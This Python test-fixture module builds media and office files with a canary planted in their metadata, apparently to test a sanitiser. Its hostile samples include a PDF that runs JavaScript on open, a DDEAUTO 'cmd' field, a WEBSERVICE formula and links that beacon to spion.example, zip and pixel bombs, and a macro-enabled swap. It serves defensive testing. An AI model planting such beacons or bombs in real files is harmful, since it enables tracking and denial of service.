"""Files as phones and offices make them, each with a canary in its hidden places."""

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

CANARY = "kanariefågel-57.72N-12.94E"


def jpeg(note: str = CANARY, size: tuple[int, int] = (40, 30), orientation: int = 1) -> bytes:
    picture = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010E] = note  # description
    exif[0x0110] = "Telefon 9"
    exif[0x0112] = orientation
    exif.get_ifd(0x8825)[1] = "N"  # position
    target = io.BytesIO()
    picture.save(target, "JPEG", exif=exif, comment=note.encode(), xmp=f"<x>{note}</x>".encode())
    return target.getvalue() + note.encode()


def png(note: str = CANARY) -> bytes:
    words = PngInfo()
    words.add_itxt("XML:com.adobe.xmp", note)
    words.add_text("Comment", "kanarie")
    target = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(target, "PNG", pnginfo=words)
    return target.getvalue() + note.encode()


def other_picture(form: str) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (20, 20)).save(target, form)
    return target.getvalue()


def wide_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A few bytes that claim to be 3.6 thousand million pixels."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    pixels = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + pixels + chunk(b"IEND", b"")


def pdf(note: str = CANARY) -> bytes:
    """A page with everything a PDF can carry besides what it shows."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    page = document.pages[0]
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.alert('{note}')"))
    document.Root.OpenAction = document.make_indirect(script)
    page.AA = pikepdf.Dictionary(O=script)
    page.Annots = pikepdf.Array(
        [
            document.make_indirect(
                pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=script)
            ),
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents=pikepdf.String(note)
            ),
        ]
    )
    document.docinfo["/Author"] = note
    with document.open_metadata() as meta:
        meta["dc:creator"] = [note]
    document.attachments["hemlig.txt"] = note.encode()
    picture = pikepdf.Stream(document, jpeg(note))
    picture.Type, picture.Subtype, picture.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
    picture.Width, picture.Height, picture.BitsPerComponent = 40, 30, 8
    picture.ColorSpace = pikepdf.Name.DeviceRGB
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Bild=document.make_indirect(picture)))
    page.Contents = pikepdf.Stream(document, b"q 100 0 0 100 0 0 cm /Bild Do Q")
    target = io.BytesIO()
    document.save(target, compress_streams=False)
    return target.getvalue()


def locked_pdf() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    target = io.BytesIO()
    document.save(target, encryption=pikepdf.Encryption(owner="agare", user="anvandare"))
    return target.getvalue()


def box(kind: bytes, *inside: bytes) -> bytes:
    content = b"".join(inside)
    return struct.pack(">I4s", 8 + len(content), kind) + content


def mp4(note: str = CANARY) -> bytes:
    """A film with position, times and a track of notes."""
    when = struct.pack(">II", 0xDEADBEEF, 0xDEADBEEF)

    def handler(kind: bytes) -> bytes:
        return box(b"mdia", box(b"mdhd", bytes(4), when, bytes(12)), box(b"hdlr", bytes(8), kind, bytes(13)))

    return (
        box(b"ftyp", b"isom", bytes(4), b"isommp41")
        + box(
            b"moov",
            box(b"mvhd", bytes(4), when, bytes(88)),
            box(b"trak", box(b"tkhd", bytes(4), when, bytes(72)), handler(b"vide"), box(b"udta", note.encode())),
            box(b"trak", handler(b"meta"), box(b"udta", note.encode())),
            box(b"udta", box(b"\xa9xyz", note.encode())),
            box(b"meta", note.encode()),
        )
        + box(b"uuid", note.encode())
        + box(b"mdat", b"bild och ljud")
    )


def wav(note: str = CANARY) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return name + struct.pack("<I", len(content)) + content + b"\x00" * (len(content) % 2)

    inside = b"WAVE" + chunk(b"fmt ", bytes(16)) + chunk(b"LIST", note.encode()) + chunk(b"data", b"ljud")
    return b"RIFF" + struct.pack("<I", len(inside)) + inside


def mp3(note: str = CANARY) -> bytes:
    title = note.encode()
    head = b"ID3\x03\x00\x00" + bytes([0, 0, 0, len(title)]) + title
    return head + b"\xff\xfb\x90\x00" + b"ljudljud" * 20 + b"TAG" + title[:40].ljust(125, b"\x00")


def zip_bomb() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("stor", bytes(20_000_000))
    return target.getvalue()


def office_properties(document: object, note: str) -> None:
    for name in ("author", "last_modified_by", "comments", "title"):
        setattr(document.core_properties, name, note)  # type: ignore[attr-defined]  # python-docx


def docx_file(note: str = CANARY) -> bytes:
    """A letter with a picture, a link out, a remark, a field, a tracked word, and its writer everywhere."""
    document = docx.Document()
    office_properties(document, note)
    paragraph = document.add_paragraph("Du vet vad som händer.")
    run = paragraph.add_run(" Tänk på barnen.")
    document.add_comment(runs=[run], text="Fick den i dag.", author=note, initials="K")
    document.add_picture(io.BytesIO(jpeg(note)))
    link = document.part.relate_to(f"https://spion.example/{note}", RELATION + "hyperlink", is_external=True)
    picture = document.part.relate_to(f"https://spion.example/{note}.png", RELATION + "image", is_external=True)
    for xml in (
        f'<w:hyperlink {SPACES} r:id="{link}"><w:r><w:t>Klicka här</w:t></w:r></w:hyperlink>',
        f'<w:r {SPACES}><w:pict r:id="{picture}"/></w:r>',
        f'<w:r {SPACES}><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO cmd {note}</w:instrText></w:r>',
        f'<w:fldSimple {SPACES} w:instr="INCLUDETEXT {note}"><w:r><w:t>Inhämtat</w:t></w:r></w:fldSimple>',
        f'<w:ins {SPACES} w:id="7" w:author="{note}" w:date="2026-11-01T08:00:00Z">{NEW_WORD}</w:ins>',
    ):
        paragraph._p.append(docx.oxml.parse_xml(xml))
    target = io.BytesIO()
    document.save(target)
    return with_parts(target.getvalue(), {"customXml/item1.xml": f"<a>{note}</a>".encode()})


NEW_WORD = "<w:r><w:t>Nytt ord</w:t></w:r>"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)


def xlsx_file(note: str = CANARY) -> bytes:
    """A list with a formula that fetches, a link out, a remark and its writer."""
    book = openpyxl.Workbook()
    book.properties.creator = book.properties.lastModifiedBy = note
    sheet = book.active
    sheet["A1"], sheet["A2"], sheet["A3"] = "Samtal", 3, f'=WEBSERVICE("https://spion.example/{note}")'
    sheet["B1"] = "Läs mer"
    sheet["B1"].hyperlink = f"https://spion.example/{note}"
    sheet["B2"].comment = openpyxl.comments.Comment(note, note)
    book.defined_names["hemlig"] = openpyxl.workbook.defined_name.DefinedName("hemlig", attr_text=f'"{note}"')
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def with_parts(package: bytes, more: dict[str, bytes]) -> bytes:
    """The same document with parts added or put in another's place."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in more:
                new.writestr(name, old.read(name))
        for name, content in more.items():
            new.writestr(name, content)
    return target.getvalue()


def with_macros() -> bytes:
    whole = docx_file()
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        types = package.read("[Content_Types].xml")
    plain, macro = (f"wordprocessingml.document{end}" for end in (".main+xml", ".macroEnabled.main+xml"))
    assert plain.encode() in types
    return with_parts(whole, {"[Content_Types].xml": types.replace(plain.encode(), macro.encode())})


def office_bomb(size: int = 60_000_000) -> bytes:
    """A letter whose text is a few kilobytes in the file and sixty megabytes out of it."""
    return with_parts(docx_file(), {"word/document.xml": b"<a>" + b" " * size + b"</a>"})


def with_entities() -> bytes:
    laughs = b'<!DOCTYPE a [<!ENTITY b "haha">]><a>&b;</a>'
    return with_parts(docx_file(), {"word/document.xml": laughs})


LOCKED_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
